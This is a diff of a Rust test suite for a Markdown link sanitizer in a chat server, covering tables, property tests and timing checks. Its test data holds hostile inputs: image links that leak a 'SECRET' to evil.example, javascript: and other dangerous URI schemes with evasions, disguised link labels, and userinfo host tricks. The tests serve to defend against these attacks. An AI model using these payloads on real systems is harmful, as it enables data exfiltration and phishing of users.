@@ -1,252 +1,375 @@
-use super::*;
 use proptest::strategy::Strategy;
 
+use super::*;
+
 const SITE: &str = "https://chat.example";
+const FILE: &str = "https://chat.example/api/v4/files/abcdefghijklmnopqrstuvwxyz";
 
 fn guarded(text: &str) -> String {
     LinkGuard::new(SITE).text(text).unwrap().text
 }
 
-fn refused(text: &str) -> String {
-    let refusal = LinkGuard::new(SITE).text(text).unwrap_err();
-    refusal.to_string()
+/// Each left text becomes the right one, and stays it.
+fn check(table: &[(&str, &str)]) {
+    for (text, expected) in table {
+        let text = text.replace("FILE", FILE);
+        let expected = expected.replace("FILE", FILE);
+        assert_eq!(guarded(&text), expected, "{text}");
+        assert_eq!(guarded(&expected), expected, "{text} once more");
+    }
+}
+
+fn stay(texts: &[&str]) {
+    check(&texts.iter().map(|text| (*text, *text)).collect::<Vec<_>>());
 }
 
 #[test]
 fn images_from_elsewhere_become_links() {
-    for (text, expected) in [
+    check(&[
         (
-            "see ![plan](https://evil.example/p.png?d=1) now",
-            "see [plan](https://evil.example/p.png?d=1) now",
+            "see ![plan](https://x.example/p.png?d=1) now",
+            "see [plan](https://x.example/p.png?d=1) now",
         ),
-        ("![](http://x.example/a)", "[](http://x.example/a)"),
-        ("![a](x.example/p.png \"t\")", "[a](x.example/p.png \"t\")"),
+        ("![](http://x.example/a)", "! [] (http://x.example/a)"),
         (
-            "![a](\n<https://x.example/a b>)",
-            "[a](\n<https://x.example/a b>)",
+            "![a](x.example/p.png \"t\")",
+            "! [a] (x.example/p.png \"t\")",
         ),
         ("!![a](https://x.example/)", "!! [a](https://x.example/)"),
-        ("![a]b](https://x.example/)", "! [a]b](https://x.example/)"),
-        (
-            "![a [b] c](https://x.example/)",
-            "! [a [b] c](https://x.example/)",
-        ),
+        ("![a]b](https://x.example/)", "! [a]b] (https://x.example/)"),
         (
             "[![a](https://x.example/i)](https://y.example/)",
-            "[a](https://x.example/i) (https://y.example/)",
+            "[[a](https://x.example/i)] (https://y.example/)",
         ),
-        ("`![a](https://x.example/)`", "`[a](https://x.example/)`"),
-        ("![a](https://x.example/(1)", "[a](https://x.example/(1)"),
+        ("\\![a](https://x.example/)", "\\! [a](https://x.example/)"),
         (
-            "\\\\![a](https://x.example/)",
-            "\\\\[a](https://x.example/)",
-        ),
-        (
-            "![a](https://chat.example.evil.example/api/v4/files/x)",
-            "[a](https://chat.example.evil.example/api/v4/files/x)",
+            "![a](//evil.example/api/v4/files/abcdefghijklmnopqrstuvwxyz)",
+            "! [a] (//evil.example/api/v4/files/abcdefghijklmnopqrstuvwxyz)",
         ),
         (
-            "![a](https://chat.example/api/v4/files/../../evil)",
-            "[a](https://chat.example/api/v4/files/../../evil)",
+            "![bank.example](https://x.example/)",
+            "! [bank.example] (https://x.example/)",
         ),
-        ("![a](//evil.example/p)", "[a](//evil.example/p)"),
-    ] {
-        assert_eq!(guarded(text), expected, "{text}");
-    }
+        ("let v = vec![1, 2];", "let v = vec! [1, 2];"),
+    ]);
+    let guard = LinkGuard::new("");
+    assert_eq!(
+        guard
+            .text("![a](/api/v4/files/abcdefghijklmnopqrstuvwxyz)")
+            .unwrap()
+            .text,
+        "[a](/api/v4/files/abcdefghijklmnopqrstuvwxyz)"
+    );
 }
 
 #[test]
-fn files_of_this_server_and_what_is_no_image_stay() {
-    for text in [
-        "![a](https://chat.example/api/v4/files/abc)",
-        "![a](/api/v4/files/abc/preview)",
-        "![a](https://chat.example/files/abc/public?h=1)",
-        "let v = vec![1, 2];",
-        "vec![1]\n\n[docs](https://docs.example/)",
+fn honest_links_and_files_of_this_server_stay() {
+    stay(&[
+        "![a](FILE) and ![plan.png](FILE/preview), ![](FILE/thumbnail)",
         "wow! [docs](https://docs.example/)",
-        "a [b] c (d)",
-    ] {
-        assert_eq!(guarded(text), text);
-    }
+        "[docs](https://docs.example/a_b?q=1&r=%20#top)",
+        "[docs.example](https://docs.example/guide) (https://docs.example)",
+        "[www.example.org](https://example.org)",
+        "[https://docs.example:8443/a](https://docs.example:8443/a)",
+        "[report.pdf](https://files.example/x), [v1.2.3](https://git.example/tag)",
+        "**[e.g. this](https://a.example)**[and](https://b.example)",
+        "[me@a.example](mailto:me@a.example), [call](tel:+49-30-1)",
+        "[here](/acme/pl/abc) or [this](#part)",
+        "\u{8bf7}\u{770b}[\u{6587}\u{6863}](https://docs.example)",
+        "<https://a.example> <me@a.example> and https://b.example/x, a@b.example",
+        "https://forge.example/@ada and a <b> c, d < e, Vec<String>",
+        "[bank.example] is the text of [docs](https://docs.example)",
+        "- [ ] open\n- [x] done [1] a[i] (c)",
+        "ssh://git@host.example/repo",
+    ]);
 }
 
 #[test]
-fn a_link_that_names_another_address_is_written_out() {
-    for (text, expected) in [
-        (
-            "[bank.example](https://evil.example/x)",
-            "bank.example (https://evil.example/x)",
-        ),
-        (
-            "[https://bank.example/login](https://evil.example \"bank\")",
-            "https://bank.example/login (https://evil.example)",
-        ),
-        (
-            "[go to **bank.example**](evil.example)",
-            "go to **bank.example** (evil.example)",
-        ),
-        (
-            "[bank&#46;example](//evil.example)",
-            "bank&#46;example (//evil.example)",
-        ),
-        (
-            "[ba\u{200b}nk.example](https://evil.example)",
-            "ba\u{200b}nk.example (https://evil.example)",
-        ),
-        (
-            "[bank\u{ff0e}example](https://evil.example)",
-            "bank\u{ff0e}example (https://evil.example)",
-        ),
-        (
-            "[10.0.0.1](https://evil.example)",
-            "10.0.0.1 (https://evil.example)",
-        ),
-        (
-            "[http://intranet](https://evil.example)",
-            "http://intranet (https://evil.example)",
-        ),
+fn what_names_another_address_is_set_apart() {
+    for label in [
+        "bank.example",
+        "https://bank.example/login",
+        "http://intranet",
+        "//intranet",
+        "go to **bank.example**",
+        "bank**.**example",
+        "ba\u{200b}nk.example",
+        "bank\u{ff0e}example",
+        "bank.xn--p1ai",
+        "10.0.0.1",
+        "bank&#46;example",
+        "bank&shy;.example",
+        "bank\u{34f}.example",
+        "bank\u{3164}.example",
+        "bank\u{e0041}.example",
+        "bank.example `[`",
+        "bank.example \\[a",
+        "bank.example $[$x",
+        "a@bank.example",
+        "evil.example.evil",
+    ] {
+        let text = format!("[{label}](https://evil.example/bank.example)");
+        let expected = format!("[{label}] (https://evil.example/bank.example)");
+        assert_eq!(guarded(&text), expected);
+    }
+    check(&[
         (
             "[bank.example]x](https://evil.example)",
-            "bank.example]x (https://evil.example)",
-        ),
-        (
-            "[bank.example \\[a](https://evil.example)",
-            "bank.example \\[a (https://evil.example)",
+            "[bank.example]x] (https://evil.example)",
         ),
         (
             "[bank.example [a] b](https://evil.example)",
-            "bank.example [a] b (https://evil.example)",
+            "[bank.example [a] b] (https://evil.example)",
         ),
         (
-            "[a@bank.example](mailto:a@evil.example)",
-            "a@bank.example (mailto:a@evil.example)",
+            "[bank.example \\[a](https://evil.example)",
+            "[bank.example \\[a] (https://evil.example)",
+        ),
+        (
+            "[bank.example https://a.example/[x](https://evil.example)",
+            "[bank.example https://a.example/[x] (https://evil.example)",
         ),
         (
             "[bank.example](https://bank.example.evil.example)",
-            "bank.example (https://bank.example.evil.example)",
+            "[bank.example] (https://bank.example.evil.example)",
         ),
         (
             "[bank.example](https://notbank.example)",
-            "bank.example (https://notbank.example)",
+            "[bank.example] (https://notbank.example)",
         ),
         (
-            "[bank.example ![y](/files/x)](https://evil.example)",
-            "bank.example ![y](/files/x) (https://evil.example)",
+            "[ceo@bank.example](mailto:ceo@evil.example)",
+            "[ceo@bank.example] (mailto:ceo@evil.example)",
         ),
-        (
-            "[bank.example [y](z)](https://evil.example)",
-            "bank.example [y](z) (https://evil.example)",
-        ),
-        (
-            "![bank.example](https://evil.example)",
-            "bank.example (https://evil.example)",
-        ),
-    ] {
-        assert_eq!(guarded(text), expected, "{text}");
+        ("[](https://evil.example)", "[] (https://evil.example)"),
+    ]);
+}
+
+#[test]
+fn what_was_walked_around_before_is_set_apart() {
+    let evil = "https://evil.example/p.png?d=SECRET";
+    for blank in ['\n', '\u{3000}', '\u{b}', '\u{c}', '\u{2003}', ' '] {
+        check(&[
+            (
+                &format!("![a\n{blank}\n]({evil})"),
+                &format!("! [a\n{blank}\n] ({evil})"),
+            ),
+            (
+                &format!("[x](\n{blank}\njavascript:alert(1))"),
+                &format!("[x] (\n{blank}\njavascript:alert(1))"),
+            ),
+        ]);
     }
-}
-
-#[test]
-fn an_honest_link_stays() {
-    for text in [
-        "[docs](https://docs.example/a_(b)?q=1)",
-        "[docs.example](https://docs.example/guide)",
-        "[example.org manual](https://docs.example.org/)",
-        "[www.example.org](https://example.org)",
-        "[report.pdf](https://files.example/x)",
-        "[README.md](https://git.example/blob/README.md)",
-        "[v1.2.3](https://git.example/tag)",
-        "[e.g. this](https://a.example)",
-        "[me@a.example](mailto:me@a.example)",
-        "[here](/acme/pl/abc)",
-        "[this](#part)",
-        "<https://a.example> and https://b.example/[x]",
-        "[bank.example] is the text of [docs](https://docs.example)",
+    check(&[
+        (
+            "![a](FILE) b](https://evil.example/p.png)",
+            "![a](FILE) b] (https://evil.example/p.png)",
+        ),
+        (
+            "![a `](FILE)`](https://evil.example/p.png)",
+            "! [a `] (FILE)`] (https://evil.example/p.png)",
+        ),
+        (
+            "[bank.example](![a](https://evil.example/p.png))",
+            "[bank.example] ([a](https://evil.example/p.png))",
+        ),
+        (
+            "[www.x.com](y![a](https://evil.example))",
+            "[www.x.com] (y[a](https://evil.example))",
+        ),
+        ("![a]\r\n(x)\r]:", "! [a]\n(x)\n] :"),
+    ]);
+    // What the server or a browser makes another address of.
+    for target in [
+        "https://chat.example/api/v4/files/..%2Fimage?url=https%3A%2F%2Fevil.example",
+        "/api/v4/files/a /../../../../api/v4/image?url=https://evil.example =9x9",
+        "<https://chat.example/api/v4/files/a>/../../../../api/v4/image?url=https://evil.example",
+        "https://chat.example/api/v4/files/../../evil x",
+        "https://chat.example.evil.example/api/v4/files/abcdefghijklmnopqrstuvwxyz",
+        "FILE?x=1",
+        "FILE/../a",
+        "FILE/public",
+        "/api/v4/files/abc",
+        "https://evil.example/p.png",
+        "data:image/png,x",
+        "",
+        "https://chat.example/logout",
     ] {
-        assert_eq!(guarded(text), text);
+        let target = target.replace("FILE", FILE);
+        let text = guarded(&format!("![x]({target})"));
+        assert!(!text.contains("!["), "{text}");
+        assert!(LinkGuard::new(SITE).image(&target).is_err(), "{target}");
     }
-}
-
-#[test]
-fn references_are_shown_as_they_stand() {
-    assert_eq!(
-        guarded("![a][1] [bank.example][1]\n\n[1]: https://evil.example/p.png"),
-        "![a][1] [bank.example][1]\n\n[1] : https://evil.example/p.png"
-    );
-    let guard = LinkGuard::new(SITE);
-    let changes = guard.text("[a]: //x.example").unwrap().changes;
-    assert_eq!(
-        changes.sentence().as_deref(),
-        Some("Link guard: 1 link reference(s) posted as text")
-    );
-    assert_eq!(guarded("done [x]:"), "done [x]:");
-}
-
-#[test]
-fn what_runs_or_hides_its_host_is_refused() {
-    for text in [
-        "[a](javascript:alert(1))",
-        "[a]( JaVa\tScript:alert(1))",
-        "[a](&#106;avascript:alert)",
-        "[a](javascript&colon;alert)",
-        "![a](data:image/png;base64,AAAA)",
-        "<vbscript:x>",
-        "[a](<file:///etc/passwd>)",
+    for target in [
+        "https://bank.example @evil.example/login",
+        "javascript:alert(1)",
+        "java&Tab;script:alert(1)",
+        "javascript&NewLine;:x",
+        "ms-msdt:x",
+        "search-ms:x",
+        "smb://evil/x",
+        "mattermost://evil.example/",
+        "//evil.example",
+        "/\\evil.example",
+        "evil.example",
+        "https://",
+        "https://&#101;vil.example",
+        "https://evil.example:99999",
+        "https://evil.example \"title\"",
+        "mailto:x",
     ] {
-        let sentence = refused(text);
+        check(&[(&format!("[open]({target})"), &format!("[open] ({target})"))]);
         assert!(
-            sentence.starts_with("has a link that runs"),
-            "{text}: {sentence}"
+            LinkGuard::new(SITE).link("open", target).is_err(),
+            "{target}"
         );
     }
+}
+
+#[test]
+fn references_and_autolinks_of_other_schemes_are_set_apart() {
+    check(&[
+        (
+            "![a][1] [bank.example][1]\n\n[1]: https://evil.example/p.png",
+            "! [a][1] [bank.example][1]\n\n[1] : https://evil.example/p.png",
+        ),
+        (
+            "<vbscript:x> <smb://evil/x>",
+            "< vbscript:x> < smb://evil/x>",
+        ),
+        ("<\njavascript://x>", "< \njavascript://x>"),
+        (
+            "[bank.example <https://a.example/[x](https://evil.example)>",
+            "[bank.example < https://a.example/[x] (https://evil.example)>",
+        ),
+        ("JavaScript: a language", "JavaScript: a language"),
+    ]);
+    let changes = LinkGuard::new(SITE).text("[a]: //x.example ![b](http://c.example)");
+    let sentence = changes.unwrap().changes.sentence().unwrap();
+    assert!(sentence.starts_with(
+        "Link guard: 1 image(s) from elsewhere posted as links; 1 link(s) or reference(s) posted as text"
+    ));
+}
+
+#[test]
+fn a_user_name_before_the_host_is_refused() {
     for text in [
         "https://bank.example@evil.example",
+        "see https://bank.example>@evil.example",
+        "[bank.example](<https://bank.example>@evil.example/login)",
         "[a](http://u:p@evil.example/)",
+        "HTTPS:\\\\bank.example@evil.example",
+        "https:bank.example@evil.example/x",
+        "https:/bank.example@evil.example/x",
     ] {
-        assert!(
-            refused(text).contains("user name before its host"),
-            "{text}"
-        );
+        let refusal = LinkGuard::new(SITE).text(text).unwrap_err();
+        assert_eq!(refusal, LinkFault::UserName, "{text}");
     }
-    assert_eq!(
-        guarded("JavaScript: a language; file: a thing"),
-        "JavaScript: a language; file: a thing"
+    assert!(
+        LinkGuard::new(SITE)
+            .link("x", "https://a@evil.example")
+            .is_err()
     );
 }
 
 #[test]
 fn attachments_load_only_files_of_this_server_and_link_honestly() {
     let guard = LinkGuard::new(SITE);
-    let image = |url| guard.image(url).is_ok();
-    assert!(image("https://chat.example/api/v4/files/abc"));
-    for url in [
-        "https://evil.example/p.png",
-        "data:image/png,x",
-        "",
-        "https://chat.example/logout",
+    assert!(guard.image(FILE).is_ok());
+    assert!(guard.image(&format!("{FILE}/preview")).is_ok());
+    assert!(
+        LinkGuard::new("")
+            .image("/api/v4/files/abcdefghijklmnopqrstuvwxyz")
+            .is_err()
+    );
+    let link = |label, url| guard.link(label, url);
+    assert_eq!(
+        link("The plan (draft)!", "https://docs.example/plan"),
+        Ok(())
+    );
+    assert_eq!(link("docs.example", "https://docs.example/plan"), Ok(()));
+    assert_eq!(link("R&D \u{1f389}", "/acme/channels/x"), Ok(()));
+    for label in [
+        "bank.example",
+        "bank&period;example",
+        "bank&shy;.example",
+        "chat.example",
     ] {
-        assert!(!image(url), "{url}");
+        assert_eq!(
+            link(label, "https://evil.example"),
+            Err(LinkFault::Disguised)
+        );
     }
-    assert!(LinkGuard::new("").image("/api/v4/files/abc").is_err());
-    let link = |label, url| guard.link(label, url).is_ok();
-    assert!(link("The plan", "https://docs.example/plan"));
-    assert!(link("docs.example", "https://docs.example/plan"));
-    assert!(!link("bank.example", "https://evil.example"));
-    assert!(!link("x", "javascript:alert(1)"));
-    assert!(!link("x", "https://a@evil.example"));
+    assert_eq!(
+        link("chat.example", "/api/v4/image"),
+        Err(LinkFault::Disguised)
+    );
+    assert_eq!(
+        link("x", &format!("/{}", "a".repeat(LONGEST))),
+        Err(LinkFault::TooLong)
+    );
 }
 
 #[test]
-fn long_and_odd_texts_are_read_in_reasonable_time() {
-    for part in ["[", "](", "![", "[a](b", "[[](", "]:", "<", "&#", "://"] {
+fn addresses_of_other_servers_are_told() {
+    let guard = LinkGuard::new(SITE);
+    for text in [
+        "https://evil.example/?d=SECRET",
+        "[x](HTTPS://evil.example)",
+        "WWW.evil.example",
+        "www2.evil.example",
+        "https://chat.example.evil.example",
+        "https://chat.example@evil.example",
+        "https://chat.example:8065/x",
+        "https://chat.example/redirect?to=x",
+        "https://chat.example/a/../%2e",
+        "https://chat.example/a https://evil.example",
+        "https://evil.example/https://chat.example/",
+        "http://chat.example",
+    ] {
+        assert!(guard.is_outside(text), "{text}");
+    }
+    for text in [
+        "",
+        "a: b/c",
+        "https://chat.example",
+        "see (https://chat.example/acme/pl/abc), [here](https://chat.example/x). Or https://chat.example/a.",
+        "mailto:a@b.example",
+    ] {
+        assert!(!guard.is_outside(text), "{text}");
+    }
+    assert!(LinkGuard::new("").is_outside(SITE));
+}
+
+#[test]
+fn the_time_grows_with_the_length() {
+    // A quadratic guard would take minutes for these.
+    for part in [
+        "[",
+        "](",
+        "![",
+        "!",
+        "[a](b",
+        "[a](https://b",
+        "[[](",
+        "]:",
+        "<",
+        "<a:",
+        "&#",
+        "&a",
+        "://",
+        "@",
+        "https:@",
+        "http:/",
+        SITE,
+    ] {
         for end in ["", ")", "](x)"] {
-            let text = part.repeat(4_000 / part.len()) + end;
-            let _ = LinkGuard::new(SITE).text(&text);
+            let text = part.repeat(50_000 / part.len()) + end;
+            if let Ok(guarded) = LinkGuard::new(SITE).text(&text) {
+                assert!(guarded.text.len() <= text.len() * 2);
+            }
         }
     }
-    let long = "a".repeat(LONGEST);
-    assert!(refused(&format!("[bank.example {long}](https://evil.example)")).contains("2048"));
-    assert!(refused(&format!("[bank.example](https://evil.example '{long}')")).contains("2048"));
 }
 
 /// Pieces that mean something to a parser of Markdown, and some that do not.
@@ -257,29 +380,59 @@ fn pieces() -> impl Strategy<Value = String> {
         "]",
         "(",
         ")",
+        "![",
+        "](",
+        "]:",
         "a",
         "\\",
         "<",
         ">",
         "`",
+        "$",
         "\n",
+        "\r",
         " ",
+        "\u{a0}",
+        "\u{200b}",
         ":",
+        "/",
+        ".",
+        "&",
+        "&#91;",
+        "*",
+        "_",
+        "\"",
         "bank.example",
+        "https://x.example",
+        "javascript:",
+        "![a](",
+        "[a](https://x.example/p)",
+        "![a](https://x.example/p)",
+        FILE,
     ]);
-    proptest::collection::vec(piece, 0..6).prop_map(|pieces| pieces.concat())
+    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
 }
 
 proptest::proptest! {
+    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2048))]
     #[test]
-    fn no_image_from_elsewhere_is_left(before in pieces(), alt in pieces(), target in pieces(), after in pieces()) {
-        let text = format!("{before}![{alt}]({target}https://x.example/p){after}");
+    fn nothing_is_left_but_own_images_and_strict_links(text in pieces()) {
         if let Ok(guarded) = LinkGuard::new(SITE).text(&text) {
-            let image = regex_lite::Regex::new(r"!\[[^\[\]]*\]\([^)\n]*x\.example").unwrap();
-            // Nothing goes on beyond an empty line.
-            for (_, paragraph) in paragraphs(&guarded.text) {
-                proptest::prop_assert!(!image.is_match(paragraph), "{text:?} -> {:?}", guarded.text);
+            // Written anew, and stricter: all labels of the pieces that may stay are these.
+            let image = regex_lite::Regex::new(
+                r"!\[[a*_:./ ]*\]\(https://chat\.example/api/v4/files/[a-z0-9]{26}\)",
+            ).unwrap();
+            let link = regex_lite::Regex::new(
+                r"\[[a*_:. /]*\]\((https?://[a-z.-]+[^\s()\[\]<>`$\\]*|/[^/\s()\[\]<>`$\\][^\s()\[\]<>`$\\]*|/)\)",
+            ).unwrap();
+            let left = link.replace_all(&image.replace_all(&guarded.text, "x"), "x").into_owned();
+            for mark in ["![", "](", "]:"] {
+                proptest::prop_assert!(!left.contains(mark), "{text:?} -> {:?}", guarded.text);
             }
+            let again = LinkGuard::new(SITE).text(&guarded.text).unwrap();
+            proptest::prop_assert_eq!(&again.text, &guarded.text);
+            proptest::prop_assert_eq!(again.changes, LinkChanges::default());
+            proptest::prop_assert!(guarded.text.len() <= text.len() * 2);
         }
     }
 }
